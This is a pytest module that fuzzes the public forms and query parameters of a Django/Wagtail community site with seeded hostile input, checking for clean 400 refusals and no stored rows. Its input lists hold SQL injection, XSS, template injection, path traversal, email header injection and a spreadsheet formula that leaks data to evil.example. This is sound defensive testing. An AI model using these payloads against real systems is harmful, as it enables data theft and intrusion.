"""Hostile input against every public form and query parameter (issue 10).

A seeded generator (``random.Random(SEED)``: the same inputs every run) makes a few hundred
inputs: long strings, NUL, control characters, lone surrogates, huge and negative numbers,
SQL/HTML/JS injection, spreadsheet formulas, RTL overrides, emoji, whitespace only, wrong
choices, duplicated parameters, missing fields, bodies cut off mid-upload. They go to every
public form and every public query parameter of the demo site (one demo load for the module),
and every answer must be below 500; a refused form answers 400 with its error summary and
stores nothing (the rows of every model with personal data are counted before and after).
"""

import io
import random
import time
import uuid
from dataclasses import dataclass, field
from urllib.parse import quote

from django.urls import reverse
from django.utils import timezone

from wagtail.contrib.forms.models import FormSubmission

import pytest

from core.abuse import TIMESTAMP_FIELD, sign_token
from core.models import OutgoingMail, Theme
from core.validators import TEXT_MAX_LENGTH
from initiatives.models import HelpOffer, OpeningPage, Response
from instruments.models import DownloadAnswer, InstrumentPage
from pages.models import ContactPage
from participation import alerts
from participation.models import Alert
from stories.models import StorySubmission, StorySubmissionPage

pytestmark = pytest.mark.django_db

SEED = 20261202
PERSONAL_MODELS = [
    Response,
    HelpOffer,
    StorySubmission,
    DownloadAnswer,
    Alert,
    FormSubmission,
    OutgoingMail,
]
SUMMARY = b"data-error-summary"

# --- The generator ------------------------------------------------------------------------------
CONTROL = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9F]]
SURROGATES = ["\ud800", "\udfff", "\udbff", "\udc00"]
# Text any form may take (or refuse), but never with a 500.
ODD_TEXT = [
    "' OR 1=1 --",
    "'; DROP TABLE initiatives_response; --",
    '" UNION SELECT password FROM auth_user --',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    "{{ request.user }} {% debug %}",
    '=HYPERLINK("http://evil.example/?leak="&A1;"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31=1+1",
    "-2+3",
    "\u202eevil\u202c gpj.exe",
    "abc\u200b\u200d\u2060def",
    "🙂👍🏽🏳️‍🌈 Emoji",
    "Z̷̢͎a̴͓l̵g̶o̷ text",
    "مرحبا بالعالم",
    "9" * 40,
    "-9223372036854775809",
    "1e309",
    "NaN",
    "../../../../etc/passwd",
    "a\r\nBcc: victim@example.nl",
    "%00%0d%0a",
    "null",
    "[]",
    '{"$gt": ""}',
]
WHITESPACE = [" ", "   \t  ", "\n\n", "\u00a0\u2003"]
BAD_PHONES = [
    "12ab",
    "1234567",
    "0" * 16,
    "06-12",
    "+999 123 456",
    "=1+1",
    "<script>",
    "((((----))))",
    "06 1234 abcd",
    "+31 6 1234 5678 9999",
    "112",
    "-0612345678",
]
GOOD_PHONES = ["06 12345678", "026-123 45 67", "+31 (0)26 123 4567", "+44 20 7946 0958"]
BAD_EMAILS = ["no-at-sign", "a@", "@example.nl", "<script>@x.nl", "x" * 300 + "@example.nl"]
NOT_CONSENT = ["0", "off", "false", "no", "", " ", "nee", "OFF", "False"]
BAD_CHOICES = ["zzz", "9223372036854775808", "-1", "0", "<b>", "' OR '1'='1", "1.5"]
NUMBERS = [
    "9223372036854775808",
    "²",
    "١٢",
    "99999999999999999999999999",
    "-1",
    "0",
    "-0",
    "1e5",
    "0x10",
]


def invalid_text(rng, base="Gewone tekst"):
    """Ordinary text with one character no person types, inside it (at either end, a
    whitespace control character is trimmed away like a space)."""
    bad = rng.choice(CONTROL + SURROGATES)
    at = rng.randrange(1, len(base))
    return base[:at] + bad + base[at:]


@dataclass
class Case:
    label: str
    data: dict
    must_refuse: bool
    must_accept: bool = False


@dataclass
class FormSpec:
    """A public form: where it is, a valid submission, and what kind each field is."""

    name: str
    url: str
    target: str
    valid: dict
    text: dict = field(default_factory=dict)  # name -> max length
    required: list = field(default_factory=list)
    phone: list = field(default_factory=list)
    email: list = field(default_factory=list)
    consent: list = field(default_factory=list)
    choice: list = field(default_factory=list)

    def data(self, **changes):
        token = sign_token(self.target, time.time() - 10, uuid.uuid4())
        data = {**self.valid, TIMESTAMP_FIELD: token}
        if "submission_key" in data:
            data["submission_key"] = str(uuid.uuid4())
        data.update(changes)
        return {k: v for k, v in data.items() if v is not None}

    def cases(self, rng):
        # Accepted, or refused without a 500: odd but possible text in every text field.
        for name, limit in self.text.items():
            for value in rng.sample(ODD_TEXT, 5):
                yield Case(f"{name}: odd text", self.data(**{name: value[:limit]}), False)
            yield Case(f"{name}: at the limit", self.data(**{name: "é" * limit}), False)
            yield Case(f"{name}: over the limit", self.data(**{name: "a" * (limit + 1)}), True)
            if limit == TEXT_MAX_LENGTH:
                yield Case(f"{name}: 1 MB", self.data(**{name: "a" * 1_000_000}), True)
            for _n in range(3):
                yield Case(f"{name}: invalid text", self.data(**{name: invalid_text(rng)}), True)
            if name in self.required:
                value = rng.choice(WHITESPACE)
                yield Case(f"{name}: whitespace only", self.data(**{name: value}), True)
        for name in self.required:
            yield Case(f"{name}: missing", self.data(**{name: None}), True)
        for name in self.phone:
            # Alone, so the phone number is how to reach the person.
            others = {e: "" for e in self.email}
            for value in rng.sample(BAD_PHONES, 5):
                yield Case(f"{name}: bad phone", self.data(**others, **{name: value}), True)
            for value in GOOD_PHONES:
                data = self.data(**others, **{name: value})
                yield Case(f"{name}: good phone {value}", data, False, must_accept=True)
        for name in self.email:
            for value in rng.sample(BAD_EMAILS, 3):
                yield Case(f"{name}: bad email", self.data(**{name: value}), True)
        for name in self.consent:
            for value in NOT_CONSENT:
                yield Case(f"{name}: no consent {value!r}", self.data(**{name: value}), True)
            yield Case(f"{name}: consent missing", self.data(**{name: None}), True)
        for name in self.choice:
            for value in rng.sample(BAD_CHOICES, 3):
                yield Case(f"{name}: bad choice", self.data(**{name: value}), True)
        yield Case("token forged", self.data(**{TIMESTAMP_FIELD: "1:2:3"}), True)
        yield Case("token missing", self.data(**{TIMESTAMP_FIELD: None}), True)
        yield Case("valid", self.data(), False, must_accept=True)


def urlencoded(data):
    """A form body as a browser sends it; a lone surrogate goes as its (invalid) UTF-8 bytes."""
    pairs = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            raw = str(item).encode("utf-8", "surrogatepass")
            pairs.append(f"{quote(key)}={quote(raw)}")
    return "&".join(pairs).encode("ascii")


def counts():
    return [model.objects.count() for model in PERSONAL_MODELS]


def has_surrogate(value):
    return any(0xD800 <= ord(c) <= 0xDFFF for c in str(value))


def post(client, url, data, rng):
    """Multipart (what the test client sends) or urlencoded at random; urlencoded when there
    is a lone surrogate (the same bytes a browser sends for a broken character)."""
    if not any(has_surrogate(v) for v in data.values()) and rng.random() < 0.5:
        return client.post(url, data)
    return client.post(url, urlencoded(data), content_type="application/x-www-form-urlencoded")


# --- The forms of the demo site -----------------------------------------------------------------
@pytest.fixture(scope="module")
def forms(demo_content, django_db_blocker):
    with django_db_blocker.unblock():
        contact = ContactPage.objects.live().filter(locale__language_code="nl").first()
        fields = {f.field_type: f.clean_name for f in contact.form_fields.all()}
        opening = next(
            o for o in OpeningPage.objects.live().filter(locale__language_code="nl") if o.is_open
        )
        story_page = StorySubmissionPage.objects.live().filter(locale__language_code="nl").first()
        instrument = next(
            p
            for p in InstrumentPage.objects.live().filter(locale__language_code="nl")
            if len(p.file_list) > 1
        )
        theme = Theme.objects.filter(locale__language_code="nl").first()
    person = {"name": "Henk Jansen", "email": "henk@example.nl", "phone": ""}
    return [
        FormSpec(
            "contact",
            contact.url,
            "contact",
            {
                fields["singleline"]: "Henk Jansen",
                fields["email"]: "henk@example.nl",
                fields["phone"]: "",
                fields["multiline"]: "Een vraag over de moestuin.",
                fields["checkbox"]: "on",
            },
            text={fields["singleline"]: 255, fields["multiline"]: TEXT_MAX_LENGTH},
            required=[fields["singleline"], fields["multiline"], fields["email"]],
            phone=[fields["phone"]],
            email=[],  # the contact form asks for an email address: it is required there
            consent=[fields["checkbox"]],
        ),
        FormSpec(
            "opening response",
            opening.url,
            f"opening-response:{opening.pk}",
            {**person, "message": "Ik help graag mee.", "availability": "", "consent": "on"},
            text={"name": 120, "message": 2000, "availability": 300},
            required=["name", "message"],
            phone=["phone"],
            email=["email"],
            consent=["consent"],
        ),
        FormSpec(
            "offer of help",
            reverse("initiatives:offer_help"),
            "help-offer",
            {
                **person,
                "skills": "garden",
                "skills_other": "",
                "hours": "tot-4",
                "kind": "volunteer",
                "place": "",
                "languages": "",
                "contact_preference": "",
                "themes": str(theme.pk),
                "submission_key": str(uuid.uuid4()),
                "consent": "on",
            },
            text={
                "name": 120,
                "skills_other": 1000,
                "place": 80,
                "languages": 200,
                "contact_preference": 200,
            },
            required=["name", "hours"],
            phone=["phone"],
            email=["email"],
            consent=["consent"],
            choice=["skills", "hours", "kind", "themes"],
        ),
        FormSpec(
            "story submission",
            story_page.url,
            "story-submission",
            {
                **person,
                "neighbourhood": "",
                "about": "Over de moestuin achter de flat.",
                "consent": "on",
            },
            text={"name": 120, "neighbourhood": 120, "about": 4000},
            required=["name", "about"],
            phone=["phone"],
            email=["email"],
            consent=["consent"],
        ),
        FormSpec(
            "instrument question",
            reverse("instruments:question", kwargs={"page_id": instrument.pk}),
            "instrument-question",
            {"file": "", "organisation_type": "", "purpose": "Voor onze wijk."},
            text={"purpose": 500},
            choice=["file", "organisation_type"],
        ),
        FormSpec(
            "alert signup",
            reverse("participation:alert_subscribe"),
            "alert-subscribe",
            {
                "email": "henk@example.nl",
                "subject": "openings",
                "kind": "",
                "theme": "",
                "place": "",
                "hours": "",
                "frequency": "weekly",
                "consent": "on",
            },
            required=["email", "subject", "frequency"],
            email=["email"],
            consent=["consent"],
            choice=["subject", "kind", "theme", "place", "hours", "frequency"],
        ),
    ]


@pytest.fixture
def no_rate_limit(settings):
    settings.FORM_RATE_LIMIT = "0"
    settings.FORM_MIN_SECONDS = 0


FORM_NAMES = [
    "contact",
    "opening response",
    "offer of help",
    "story submission",
    "instrument question",
    "alert signup",
]


@pytest.mark.parametrize("name", FORM_NAMES)
def test_hostile_form_input_is_refused_cleanly(client, forms, no_rate_limit, name):
    spec = next(s for s in forms if s.name == name)
    rng = random.Random(f"{SEED}:{name}")
    cases = list(spec.cases(rng))
    assert len(cases) > 15
    problems = []
    for case in cases:
        before = counts()
        response = post(client, spec.url, case.data, rng)
        after = counts()
        status = response.status_code
        if status >= 500:
            problems.append(f"{case.label}: {status}")
        elif case.must_refuse and status != 400:
            problems.append(f"{case.label}: {status}, not refused")
        elif case.must_accept and status not in (302, 303):
            problems.append(f"{case.label}: {status}, not accepted")
        elif status == 400 and (after != before or SUMMARY not in response.content):
            problems.append(f"{case.label}: refused, but stored {after} or no summary")
    assert problems == []


@pytest.mark.parametrize("name", FORM_NAMES)
@pytest.mark.parametrize("kind", ["urlencoded", "multipart"])
def test_a_body_cut_off_mid_upload_stores_nothing(client, forms, no_rate_limit, name, kind):
    """A client whose connection breaks sends less than its Content-Length: the server reads
    what came (to EOF), which Django's parsers would take for the whole form."""
    from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart

    spec = next(s for s in forms if s.name == name)
    data = spec.data()
    if kind == "urlencoded":
        body, content_type = urlencoded(data), "application/x-www-form-urlencoded"
    else:
        body, content_type = encode_multipart(BOUNDARY, data), MULTIPART_CONTENT
    complete = client.generic("POST", spec.url, body, content_type=content_type)
    assert complete.status_code in (302, 303)  # the whole body is a valid submission
    before = counts()
    for cut in (len(body) // 3, len(body) - 10, len(body) - 1):
        data = spec.data()
        body = urlencoded(data) if kind == "urlencoded" else encode_multipart(BOUNDARY, data)
        response = client.generic(
            "POST",
            spec.url,
            content_type=content_type,
            CONTENT_LENGTH=str(len(body)),
            **{"wsgi.input": io.BytesIO(body[:cut])},
        )
        assert response.status_code == 400
        assert counts() == before


def test_managing_alerts_with_hostile_input(client, demo_content):
    now = timezone.now()
    alert = Alert.objects.create(
        email="henk@example.nl",
        subject="openings",
        frequency="weekly",
        language="nl",
        consent_version="1",
        consent_given_at=now,
        confirmed_at=now,
    )
    url = reverse("participation:alert_manage", args=[alerts.sign(alert, "manage")])
    rng = random.Random(f"{SEED}:manage")
    values = [*NUMBERS, *rng.sample(ODD_TEXT, 8), "²", "١", "٣٤", invalid_text(rng), ""]
    statuses = []
    for value in values:
        for data in (
            {"action": "frequency", "alert": value, "frequency": "immediate"},
            {"action": "frequency", "alert": str(alert.pk), "frequency": value},
            {"action": value, "alert": str(alert.pk)},
        ):
            response = post(client, url, data, rng)
            statuses.append(response.status_code)
            assert response.status_code < 500, data
    assert Alert.objects.filter(pk=alert.pk).exists()
    assert 400 in statuses
    forged = url[:-3] + "xx/"  # the signature no longer matches
    assert client.post(forged, {"action": "delete_all"}).status_code == 404
    assert Alert.objects.filter(pk=alert.pk).exists()


# --- Query parameters ---------------------------------------------------------------------------
def public_listings():
    from blog.models import BlogIndexPage
    from initiatives.models import InitiativeIndexPage, OpeningFinderPage
    from instruments.models import InstrumentIndexPage
    from participation.models import ImpactPage
    from stories.models import StoryIndexPage

    urls = {reverse("core:search"): ["q", "page", "type", "theme"]}
    for page in ImpactPage.objects.live().filter(locale__language_code="nl"):
        urls[page.url] = ["year"]
        urls[page.url + "csv/"] = ["year"]
    for model, params in [
        (StoryIndexPage, ["theme", "tag", "page", "person", "year"]),
        (BlogIndexPage, ["theme", "tag", "page", "year"]),
        (InitiativeIndexPage, ["theme", "status", "partner", "place", "page"]),
        (
            OpeningFinderPage,
            ["kind", "theme", "place", "hours", "initiative", "partner", "no_experience"]
            + ["sort", "page"],
        ),
        (InstrumentIndexPage, ["q", "theme", "type", "audience", "language", "page"]),
    ]:
        for page in model.objects.live().filter(locale__language_code="nl"):
            urls[page.url] = params
    openings = ["kind", "theme", "place", "hours", "initiative", "partner", "no_experience"]
    urls["/api/v1/openings/"] = [
        "language",
        "limit",
        "sort",
        *openings,
    ]
    urls[reverse("initiatives:openings_widget")] = ["limit", "sort", *openings]
    for name in [
        "stories:feed_rss",
        "stories:feed_atom",
        "blog:feed_rss",
        "initiatives:openings_feed",
        "instruments:feed",
    ]:
        urls[reverse(name)] = ["theme", "page", "limit"]
    return urls


HOSTILE_QUERY_VALUES = [*NUMBERS, *ODD_TEXT, "x" * 5000, "", " "]


def test_hostile_query_parameters_never_fail(client, demo_content):
    rng = random.Random(f"{SEED}:query")
    urls = public_listings()
    assert len(urls) >= 14
    problems = []
    sent = 0
    for url, params in urls.items():
        for param in params:
            values = rng.sample(HOSTILE_QUERY_VALUES, 3)
            cases = [(f"{param}={quote(v.encode('utf-8'))}", v) for v in values]
            bad = invalid_text(rng)
            raw = quote(bad.encode("utf-8", "surrogatepass"))
            cases.append((f"{param}={raw}", bad))
            cases.append((f"{param}=a&{param}=b&{param}[]=c", None))
            for query, value in cases:
                sent += 1
                response = client.get(f"{url}?{query}")
                status = response.status_code
                if status >= 500:
                    problems.append(f"{url}?{query}: {status}")
                elif value is bad and status != 400:
                    problems.append(f"{url}?{query}: {status}, not refused")
    assert sent > 250
    assert problems == []
